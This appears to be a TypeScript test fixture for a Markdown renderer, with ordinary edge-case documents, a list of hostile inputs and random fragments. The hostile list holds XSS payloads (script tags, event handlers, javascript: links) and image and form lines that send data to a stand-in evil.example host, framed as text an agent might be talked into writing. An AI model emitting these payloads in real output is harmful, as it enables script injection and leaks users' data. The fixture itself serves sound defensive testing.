/** Documents that test the renderer: ordinary ones, and ones that try to break out. */
export const documents: Record<string, string> = {
  prose: "# Title\n\nSome *text* with **weight** and `code`.\nStill the same.\n\nSetext\n===\n\n---\n\nEnd.",
  lists:
    "1. one\n2. two\n   - nested\n   - more\n\n     with a paragraph\n\n3. three\n\n- [ ] open\n- [x] done\n\n- loose\n\n- list\n\ntext\n* other\n+ third",
  code: "Before\n\n```ts\nconst a = `x`;\n\n\nlet b: number;\n```\n\n    indented\n\n    more\n\n````md\n```\ninner\n```\n````\n\n~~~\ntilde ```\n~~~\nafter",
  unclosed: "Text\n\n```python\nprint('x')\n\nno end",
  table: "| a | b |\n|:--|--:|\n| 1 | `2` |\n| 3 | 4 |\n\nafter | not\n\nx | y\n--|--\n1 | 2",
  quotes: "> quote\nlazy\n\n> - list\n>   in it\n>\n> ```js\n> x\n> ```\n\n>> deep\n> less\n\nend",
  definitions: "See [the docs][docs] and [more].\n\nLater.\n\n[docs]: https://a.b/c\n> [more]: https://d.e\n",
  html: "<div>\n*not bold*\n\n*bold*\n</div>\n\n<!-- open\n\ncomment -->\n\n<pre>\nx\n\ny</pre>\n\ntext <b>b</b>",
  windows: "# Title\r\n\r\n- a\r\n- b\r\n\r\n```sh\r\nls\r\n```\r\n",
};

/** Texts that an agent may be talked into writing. */
export const hostile: string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "a <script> <img src=x onerror=alert(1) //",
  "<pre><img src=x onerror=alert(1)//",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](&#106;avascript:alert(1))",
  "![x](javascript:alert(1))",
  "![leak](https://evil.example/?q=secret)",
  '[x](https://a.b/"onmouseover="alert(1))',
  "[x](<https://a.b/'\"><script>>)",
  '[x](https://a.b "title\\" onclick=alert(1)")',
  "<javascript:alert(1)>",
  '```"><script>alert(1)</script>\nx\n```',
  "```html\n</code></pre><script>alert(1)</script>\n```",
  "[x]: javascript:alert(1)\n[x]",
  "| <script> |\n|---|\n| <img onerror=x> |",
  "<a href='javascript:alert(1)'>x</a>",
  "`</code><script>alert(1)</script>`",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<form action=https://evil.example><input name=q></form>",
];

/** What a random document is put together from. */
export const fragments: string[] = [
  "word", " ", "\n", "\n\n", "  ", "    ", "\t", "# ", "- ", "* ", "1. ", "2) ", "> ", "```", "````",
  "```ts\n", "~~~", "`", "**", "_", "~~", "[a]", "(https://x.y)", "[a]: /u\n", "![i](u)", "| a | b |\n",
  "|---|---|\n", "---\n", "===\n", "<div>\n", "</div>", "<!--", "-->", "<pre>", "- [ ] ", "\\", "&amp;",
  "https://x.y/z ", "<b>", "\r\n",
];
